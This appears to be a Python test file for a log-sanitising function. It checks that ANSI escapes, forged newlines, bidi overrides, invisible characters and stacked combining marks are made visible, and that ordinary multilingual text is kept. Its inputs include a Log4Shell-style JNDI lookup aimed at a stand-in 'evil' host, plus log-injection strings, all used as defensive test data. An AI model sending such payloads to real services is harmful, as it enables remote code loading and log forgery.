"""Attacker text never reaches an operator's terminal or file raw."""

from lwsyslog.sanitize import sanitize


def test_ansi_escape_and_newline_become_visible() -> None:
    text = sanitize("GET /\x1b[31mred\nforged line\r")
    assert "\x1b" not in text and "\n" not in text and "\r" not in text
    assert text == "GET /\\x1b[31mred\\x0aforged line\\x0d"


def test_backslash_is_doubled_so_the_escape_cannot_be_faked() -> None:
    assert sanitize("a\\x1bb") == "a\\\\x1bb"


def test_bidi_override_and_nul_are_escaped() -> None:
    assert sanitize("evil\u202etxt.exe\x00") == "evil\\u202etxt.exe\\x00"


def test_printable_unicode_is_kept_and_long_text_cut() -> None:
    assert sanitize("café") == "café"
    assert sanitize("x" * 50, 10) == "x" * 9 + "…"


def test_blank_letters_and_variation_selectors_are_escaped() -> None:
    # Printable to Python, invisible on screen: a fragment could hide text between them.
    shown = sanitize("${jndi:ldap://evil\u3164\u2800\u115f.example/a}\ufe0f")
    assert shown == "${jndi:ldap://evil\\u3164\\u2800\\u115f.example/a}\\ufe0f"


def test_an_overlay_mark_and_a_stack_of_combining_marks_are_escaped() -> None:
    assert sanitize("\u0336admin") == "\\u0336admin"  # strikes through what follows it
    assert sanitize("Z\u0300\u0301\u0302\u0303") == "Z\u0300\u0301\\u0302\\u0303"


def test_ordinary_text_of_other_scripts_is_kept() -> None:
    for text in ("naïve ภาษาไทย हिन्दी Tiếng Việt", "e\u0302\u0301", "日本語のテキスト"):
        assert sanitize(text) == text
